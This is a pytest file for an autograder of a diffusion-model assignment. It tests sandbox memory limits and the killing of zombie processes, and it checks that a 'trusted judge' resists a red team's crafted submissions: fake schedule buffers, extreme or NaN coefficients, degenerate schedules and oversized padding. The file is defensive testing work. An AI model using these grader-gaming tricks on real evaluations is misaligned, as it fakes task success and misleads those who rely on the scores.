    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "grading took" in notes and len(visible(result)) == len(visible(graded["honest"][1]))
    assert result["score"] <= honest(results) + 1e-6
    assert "flood" in notes, notes[-3000:]
    limit = int(re.search(r"memory limit \(MB\): (\d+)", notes).group(1))
    peak = int(re.search(r"peak memory of the student's processes \(MB\): (\d+)", notes).group(1))
    assert 64 < limit - 300 and peak <= limit + 32, (limit, peak)  # the 4 GB bomb stopped at the limit
    assert machine["container peak MB"] <= 768


def test_a_zombie_leader_with_a_live_thread_is_seen_counted_and_killed_from_root():
    """Unit check of the process accounting (no zip): a process whose main thread exited while another thread
    holds 200 MB reads State: Z; it is still one of the uid's processes, its memory counts, and the sandbox kills it."""
    import subprocess
    import sys

    if os.geteuid() != 0:
        pytest.skip("needs root (to run the process as a throwaway uid)")
    code = ("import ctypes, threading, time\n"
            "def hold():\n    block = bytearray(200 << 20)\n    block[::4096] = b'x' * len(block[::4096])\n    time.sleep(600)\n"
            "threading.Thread(target=hold).start()\ntime.sleep(0.5)\nctypes.CDLL(None).syscall(60, 0)\n")
    uid = autograder_runner.pick_uid()
    prefix = os.path.dirname(os.path.dirname(os.path.realpath(sys.executable)))
    visible = [prefix] if autograder_runner.can_hide_filesystem() else None
    proc = subprocess.Popen([os.path.realpath(sys.executable), "-I", "-c", code], cwd="/",
                            preexec_fn=autograder_runner.make_sandbox(8 << 30, uid, visible))
    try:
        assert autograder_runner.wait_until(lambda: autograder_runner._status(f"/proc/{proc.pid}/status")[0] == "Z",
                                            time.time() + 30)
        assert autograder_runner.processes_of(uid) == [proc.pid]
        assert autograder_runner.rss_of([proc.pid]) > 200 << 20
        killed, left = autograder_runner.Sandbox(uid).kill(time.time() + 10)
        assert (killed, left) == ({proc.pid}, 0) and autograder_runner.processes_of(uid) == []
    finally:
        proc.kill()
        proc.wait(timeout=10)


# ================================================================== the trusted judge, in process
# Held-out red team v3 (issue 15) raised a wrong-math submission's score with crafted schedule buffers, tolerances
# scaled by its own numbers, degenerate "own alpha_bar"s, and made the judge's cost grow with what it sent. Each
# family is tested here on the trusted judge itself (tools/grading_trusted.py with the judges of grading.py and
# test_diffusion.py), in process and at small T: many members cost little (GRADED_ONLY above goes through the zip).
# A member's payload is one real probe run of its functions with the schedule probe's `stored` tensors replaced by
# its tables: exactly what a submission sends whose functions compute the true schedule where they use it and whose
# __init__ stores those tables. Its honest twin stores the same numbers under names of its own, which no re-judging
# reads; every member must score exactly what its twin scores.
import collections  # noqa: E402
import functools  # noqa: E402
import json  # noqa: E402
import time  # noqa: E402
import types  # noqa: E402

import torch  # noqa: E402

import grading  # noqa: E402
import grading_trusted  # noqa: E402
import test_diffusion as td  # noqa: E402

PARAMS = {"T": {"small": 24, "large": 96}, "mid": {"small": 9, "large": 41}, "seed": 20261203}


def _source(*replacements, base=REFERENCE):
    for old, new in replacements:
        assert base.count(old) == 1, old
        base = base.replace(old, new)
    return base


Q_SAMPLE = ("extract(self.sqrt_alphas_cumprod, t, x_0.shape) * x_0\n"
            "            + extract(self.sqrt_one_minus_alphas_cumprod, t, x_0.shape) * noise")
P_SAMPLE_START = "        eps = self.model(x, t)\n"
# the functions of the family members (each wrong; the crafted tables below would make them look right)
FUNCTIONS = {
    "wrong_math": WRONG_MATH,
    "no_square_roots_and_no_model": _source(
        (Q_SAMPLE, "extract(self.alphas_cumprod, t, x_0.shape) * x_0\n"
                   "            + (1 - extract(self.alphas_cumprod, t, x_0.shape)) * noise"),
        (P_SAMPLE_START, "        return x if t_index == 0 else x + 1e-3 * self.noise_like(x.shape, x.device)\n")),
    "returns_its_input": _source((Q_SAMPLE, "x_0 + 0 * noise"), (P_SAMPLE_START, "        return x\n")),
    "returns_the_noise": _source((Q_SAMPLE, "0 * x_0 + noise")),
    "swapped": mutant("q_sample_swapped"),
}


def _one_step(values, value, k=2):
    values = values.clone()
    values[k] = value
    return values


def _consistent(alpha_bar):
    """Every buffer as one alpha_bar implies it (a crafted schedule that is consistent, but degenerate)."""
    prev = torch.cat([alpha_bar.new_ones(1), alpha_bar[:-1]])
    return grading_trusted.implied_buffers((alpha_bar / prev).clamp(max=1.0), alpha_bar)


# family member -> (its functions, its stored tables from the reference's true buffers b)
CRAFTED = {
    # re-judging on crafted buffers
    "sqrt_pair_not_summing_to_1": ("no_square_roots_and_no_model", lambda b: {
        **b, "sqrt_alphas_cumprod": b["alphas_cumprod"], "sqrt_one_minus_alphas_cumprod": 1 - b["alphas_cumprod"]}),
    "posterior_1_0_small_variance": ("no_square_roots_and_no_model", lambda b: {
        **b, "posterior_mean_coef_x0": 0 * b["alphas"], "posterior_mean_coef_xt": 1 + 0 * b["alphas"],
        "posterior_variance": 1e-6 + 0 * b["alphas"]}),
    "both_at_once": ("no_square_roots_and_no_model", lambda b: {
        **b, "sqrt_alphas_cumprod": b["alphas_cumprod"], "sqrt_one_minus_alphas_cumprod": 1 - b["alphas_cumprod"],
        "posterior_mean_coef_x0": 0 * b["alphas"], "posterior_mean_coef_xt": 1 + 0 * b["alphas"],
        "posterior_variance": 1e-6 + 0 * b["alphas"]}),
    "sqrt_alpha_bar_is_sqrt_alpha": ("wrong_math", lambda b: {**b, "sqrt_alphas_cumprod": b["alphas"].sqrt()}),
    # the tolerance's scale from the student's numbers
    "coefficient_1e39": ("wrong_math", lambda b: {**b, "posterior_mean_coef_x0": 1e39 + 0 * b["alphas"]}),
    "coefficient_1e30_at_one_step": ("wrong_math", lambda b: {
        **b, "posterior_mean_coef_x0": _one_step(b["posterior_mean_coef_x0"], 1e30)}),
    "coefficient_inf": ("wrong_math", lambda b: {
        **b, "posterior_mean_coef_x0": _one_step(b["posterior_mean_coef_x0"], math.inf)}),
    "coefficient_nan": ("wrong_math", lambda b: {
        **b, "posterior_mean_coef_x0": _one_step(b["posterior_mean_coef_x0"], math.nan)}),
    "coefficient_huge_negative": ("wrong_math", lambda b: {
        **b, "posterior_mean_coef_x0": _one_step(b["posterior_mean_coef_x0"], -1e30)}),
    # degenerate schedules, consistent in themselves
    "constant_alpha_bar_1": ("returns_its_input", lambda b: _consistent(1 + 0 * b["alphas"])),
    "alpha_bar_all_zero": ("returns_the_noise", lambda b: _consistent(1e-12 + 0 * b["alphas"])),
    "increasing_alpha_bar": ("swapped", lambda b: {**b, "sqrt_alphas_cumprod": b["sqrt_one_minus_alphas_cumprod"],
                                                   "sqrt_one_minus_alphas_cumprod": b["sqrt_alphas_cumprod"]}),
    "flat_but_the_last_step": ("returns_its_input", lambda b: _consistent(torch.cat([
        1 - 1e-9 * torch.arange(1, len(b["alphas"]), dtype=torch.float64), torch.full((1,), 0.5, dtype=torch.float64)]))),
}
# the schedule bugs students really make: re-judging must still charge them to the schedule only
HONEST_SCHEDULE_BUGS = {
    "no_clip": mutant("schedule_unclipped"),
    "float32_no_clip": _source(("steps = torch.arange(timesteps + 1, dtype=torch.float64)",
                                "steps = torch.arange(timesteps + 1, dtype=torch.float32)"),
                               ("        alphas_cumprod = torch.cumprod(alphas, dim=0)\n",
                                "        alphas = alphas.float()\n        alphas_cumprod = torch.cumprod(alphas, dim=0)\n"),
                               base=mutant("schedule_unclipped")),
    "unclipped_cumprod": _source(("        alphas_cumprod = torch.cumprod(alphas, dim=0)\n",
                                  "        f = torch.cos(((torch.arange(self.num_timesteps + 1, dtype=torch.float64) / "
                                  "self.num_timesteps + 0.008) / 1.008) * math.pi / 2) ** 2\n"
                                  "        alphas_cumprod = f[1:] / f[0]\n")),
    # tables of T + 1 values from step 0, read at the code index: one step off
    "off_by_one_t_plus_1_tables": _source(
        ('        register("sqrt_alphas_cumprod", torch.sqrt(alphas_cumprod))\n'
         '        register("sqrt_one_minus_alphas_cumprod", torch.sqrt(1.0 - alphas_cumprod))\n',
         '        table = F.pad(alphas_cumprod, (1, 0), value=1.0)\n'
         '        register("sqrt_alphas_cumprod", torch.sqrt(table))\n'
         '        register("sqrt_one_minus_alphas_cumprod", torch.sqrt(1.0 - table))\n')),
}


@functools.lru_cache(maxsize=None)
def _plan():
    per_check, distinct = grading.requests_of(td.CHECKS, PARAMS)
    reference = {key: grading_trusted.plain(grading.run_request(td.diffusion, r)) for key, r in distinct.items()
                 if r["probe"] not in grading.NO_REFERENCE}
    return per_check, distinct, reference


@functools.lru_cache(maxsize=None)
def _outputs(source):
    """The probe outputs of a submission, run in process (as JSON text, so that callers get fresh copies)."""
    module = types.ModuleType("submission")
    exec(compile(source, "diffusion.py", "exec"), module.__dict__)
    return json.dumps({key: grading.run_request(module, r) for key, r in _plan()[1].items()})


def _judged(student, hint_budget=0.0):
    per_check, _, reference = _plan()
    budget, grading_trusted.HINT_BUDGET_S = grading_trusted.HINT_BUDGET_S, hint_budget
    try:
        return grading_trusted.judge({"params": PARAMS, "per_check": per_check, "reference": reference,
                                      "student": student})["results"]
    finally:
        grading_trusted.HINT_BUDGET_S = budget


def _score(results):
    checks = collections.Counter(c.function for c in td.CHECKS)
    return sum(td.POINTS[c.function] / checks[c.function] for c in td.CHECKS if results[c.name][0])


def _true_buffers(T):
    d = td.diffusion.Diffusion(grading.TinyEps(1), image_size=1, channels=1, timesteps=T)
    return {n: b.double() for n, b in d.named_buffers() if not n.startswith("model.")}


def _storing(source, craft, prefix=""):
    """The payload of `source` with the schedule probes reporting craft(true buffers) as stored, names prefixed."""
    student = json.loads(_outputs(source))
    for size, T in PARAMS["T"].items():
        tables = craft(_true_buffers(T))
        student[grading.request_key(td.schedule_req(PARAMS, size))]["stored"] = [
            {"name": prefix + name, "values": values.tolist()} for name, values in tables.items()]
    return student


@pytest.mark.parametrize("member", list(CRAFTED))
def test_crafted_schedules_are_not_re_judged(member):
    """Each member: not a schedule (own_schedule refuses it), so it scores exactly its honest twin."""
    functions, craft = CRAFTED[member]
    T = PARAMS["T"]["large"]
    tables = craft(_true_buffers(T))
    stored = [{"name": name, "values": values.tolist()} for name, values in tables.items()]
    assert grading_trusted.own_schedule(stored, T) is None, member
    crafted = _score(_judged(_storing(FUNCTIONS[functions], craft)))
    twin = _score(_judged(_storing(FUNCTIONS[functions], craft, prefix="my_")))
    assert crafted == twin, (member, crafted, twin)


def test_a_degenerate_alpha_bar_is_not_the_students_own_in_local_pytest_either():
    """A q_sample that returns x_0 is not "right for the alpha_bar your Diffusion stores" when that alpha_bar is a
    constant 1 (the red team's +10), nor one that is flat up to the last step; a real alpha_bar still is."""
    T = PARAMS["T"]["large"]
    ones = torch.ones(T, dtype=torch.float64)
    flat = CRAFTED["flat_but_the_last_step"][1](_true_buffers(T))["alphas_cumprod"]

    def candidates(values):
        return [n for n, _ in grading.alpha_bar_candidates({"stored": [{"name": "a", "values": values.tolist()}]}, T)]

    for candidate in (ones, flat, torch.zeros(T, dtype=torch.float64), flat.flip(0)):
        assert candidates(candidate) == []
    assert "a^2" in candidates(_true_buffers(T)["alphas_cumprod"].sqrt())
    for candidate in (ones, flat):  # through the q_sample check: exactly the score without the stored candidate
        student = _storing(FUNCTIONS["returns_its_input"], lambda b: {"my_alpha_bar": candidate})
        honest = _storing(FUNCTIONS["returns_its_input"], lambda b: {})
        assert _score(_judged(student)) == _score(_judged(honest))


def test_the_schedule_bugs_students_make_cost_only_the_schedule():
    """No clip, float32, a cumulative product taken before the clip, T + 1 tables read one step off: q_sample and
    p_sample are re-judged on the student's own schedule and pass; only schedule checks fail."""
    for name, source in HONEST_SCHEDULE_BUGS.items():
        results = _judged(json.loads(_outputs(source)))
        failing = {c.function for c in td.CHECKS if not results[c.name][0]}
        assert failing == {"schedule"}, (name, {c.name: results[c.name][1][:300] for c in td.CHECKS
                                                if not results[c.name][0]})


def test_implied_buffers_are_the_references():
    """implied_buffers restates the reference's formulas: from its (float32) alphas and alpha_bar it gives its
    buffers within the float32 tolerance own_schedule allows, at the grader's smallest and largest T."""
    for T in (20, 1100):
        b = _true_buffers(T)
        implied = grading_trusted.implied_buffers(b["alphas"], b["alphas_cumprod"])
        rtol = grading_trusted.float32_tolerance(b["alphas"], b["alphas_cumprod"])
        for name, values in b.items():
            assert ((implied[name] - values).abs() <= rtol * values.abs() + 1e-9).all(), name


def test_a_noise_check_is_not_scaled_by_the_students_outliers():
    """p_sample with a little torch.randn noise fails the noise_like check; one huge value in its output used to
    scale that check's tolerance (max |output|) until it passed."""
    step = "        return mean + sigma * self.noise_like(x.shape, x.device)\n"
    noisy_step = "        out = mean + sigma * self.noise_like(x.shape, x.device) + 0.01 * torch.randn_like(x)\n"
    noisy = _source((step, noisy_step + "        return out\n"))
    outlier = _source((step, noisy_step + "        out.view(-1)[0] = 1e5\n        return out\n"))
    chk = next(c for c in td.CHECKS if c.name == "p_sample_noise_comes_from_noise_like")
    for source in (noisy, outlier):
        module = types.ModuleType("submission")
        exec(compile(source, "diffusion.py", "exec"), module.__dict__)
        got = [grading_trusted.plain(grading.run_request(module, r)) for r in chk.requests(PARAMS)]
        assert grading.judge_check(chk, got, [{}], PARAMS)[0] is False


def test_padding_does_not_change_the_verdicts_and_is_cut_before_judging():
    """Extra stored tensors, keys, items, long strings, deep nesting and oversized tensors in every output: the
    judge admits only what the probes send (grading_trusted.admitted), with the same verdicts."""
    honest = json.loads(_outputs(WRONG_MATH))
    padded = json.loads(_outputs(WRONG_MATH))
    deep = []
    for _ in range(5000):
        deep = [deep]
    for key, out in padded.items():
        T = json.loads(key)["args"]["T"]
        out.update({f"extra{i}": "x" * 10_000 for i in range(100)})
        out["deep"] = deep
        out["big"] = {"shape": [300_000], "values": [0.5] * 300_000}
        if "stored" in out:
            out["stored"] += [{"name": f"pad{i}", "values": [0.5] * T} for i in range(3000)]
    per_check, _, reference = _plan()
    for key, out in padded.items():
        admitted = grading_trusted.admitted(out, reference.get(key, {}), json.loads(key)["args"]["T"])
        most = 4 * grading_trusted.size_of(reference.get(key, {})) + 64 * (PARAMS["T"]["large"] + 2) + 20_000
        assert grading_trusted.size_of(admitted) <= most
        assert len(admitted.get("stored", [])) <= grading_trusted.MAX_STORED and "values" not in admitted.get("big", {})
    started = time.process_time()
    results = _judged(padded)
    assert time.process_time() - started < 60  # a guard against regressions: about 2 s on two loaded cores
    assert {k: v[0] for k, v in results.items()} == {k: v[0] for k, v in _judged(honest).items()}


def test_known_mistake_hints_stop_at_their_budget(monkeypatch):
    """The budget is checked before every probe run of a mutant, so a slow one cannot carry the hints past it (a
    check before each mutant let all of a mutant's runs start late). On a clock that each run moves by a second."""
    per_check, _, reference = _plan()
    clock = [0.0]

    class Slow:
        class Diffusion:
            def __init__(self, *args, **kwargs):
                clock[0] += 1
                raise RuntimeError("a slow mutant")

    monkeypatch.setattr(grading, "time", types.SimpleNamespace(time=lambda: clock[0]))
    chk = next(c for c in td.CHECKS if c.name == "q_sample_matches_reference-small_T")  # two probe runs
    assert len(chk.requests(PARAMS)) == 2
    rows = grading.mistake_rows([chk], PARAMS, reference, [(0, "q_sample", Slow)], per_check, deadline=0.5)
    assert rows == {} and clock[0] == 1
